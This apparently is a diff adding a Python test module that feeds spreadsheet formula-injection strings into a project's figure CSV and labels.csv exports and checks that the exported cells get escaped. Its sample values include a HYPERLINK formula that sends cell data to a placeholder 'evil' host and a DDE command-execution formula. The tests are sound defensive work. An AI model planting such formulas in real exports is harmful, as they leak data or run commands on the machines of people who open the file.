@@ -1,0 +1,69 @@
+"""Texts of a dataset that a spreadsheet would compute, in the CSV files that are made for one.
+
+Parquet tables keep every text as it is.
+"""
+
+import csv
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+from faults.injector import Fault
+
+from eyechart.mining import export_labels
+from eyechart.report.chart_style import draw, empty
+from eyechart.tables.parquet import read_table, write_table
+
+KIND = "Cells that are formulas"
+FORMULAS = {
+    "a sum": "=1+1",
+    "a link that sends data": '=HYPERLINK("http://evil/?"&A1,"see")',
+    "a command": "=cmd|'/C calc'!A0",
+    "a plus": "+1+1",
+    "a minus": "-2+3",
+    "an at sign": "@SUM(1+1)",
+    "a tab before it": "\t=1+1",
+    "a line end before it": "\r=1+1",
+}
+
+
+def figure(text: str) -> Callable[[], Any]:
+    """Return what draws a figure with a text and numbers, and reads its CSV."""
+
+    def inject() -> Any:
+        chart = empty("title", "reason")
+        chart["datasets"]["points"] = [{"task": text, "value": -0.5, "n": 3}]
+        draw(Path("figure"), chart, 1)
+        with open("figure.csv", newline="", encoding="utf-8") as file:
+            return list(csv.reader(file))[1], [f"'{text}", "-0.5", "3"]
+
+    return inject
+
+
+def labels(text: str) -> Callable[[], Any]:
+    """Return what exports pairs of images with such a path, and reads the form and the table."""
+
+    def inject() -> Any:
+        pairs = pa.table({"first_id": ["a"], "second_id": ["b"]})
+        images = pa.table({"image_id": ["a", "b"], "path": [text, "b.png"]})
+        write_table(Path("pairs.parquet"), pairs)
+        write_table(Path("images.parquet"), images)
+        export_labels.main(["--pairs", "pairs.parquet", "--images", "images.parquet",
+                            "--output", "labels.csv"])  # fmt: skip
+        with open("labels.csv", newline="", encoding="utf-8") as file:
+            cells = [row[-1] for row in csv.reader(file)][1:]
+        kept = read_table(Path("images.parquet"), ["path"]).column("path").to_pylist()
+        return (cells, kept), ([f"'{text}", "b.png"], [text, "b.png"])
+
+    return inject
+
+
+FAULTS = [
+    *(Fault(what, "a figure's CSV", "whole", figure(text)) for what, text in FORMULAS.items()),
+    *(
+        Fault(what, "labels.csv", "whole", labels(text))
+        for what, text in FORMULAS.items()
+        if "\r" not in text
+    ),
+]
